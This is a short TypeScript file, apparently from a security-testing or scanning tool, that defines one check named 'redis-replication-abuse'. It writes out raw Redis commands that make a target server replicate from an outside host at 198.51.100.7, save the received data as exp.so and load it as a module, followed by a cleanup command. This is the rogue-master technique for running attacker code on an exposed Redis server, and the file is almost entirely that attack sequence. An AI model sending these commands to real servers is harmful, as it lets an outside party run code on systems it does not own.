import { type Proof, proof, tcp } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'redis-replication-abuse',
    tcp(6379, 'SLAVEOF 198.51.100.7 6379\r\nCONFIG SET dbfilename exp.so\r\nMODULE LOAD ./exp.so\r\n'),
    tcp(6379, 'SLAVEOF NO ONE\r\n'),
  ),
]
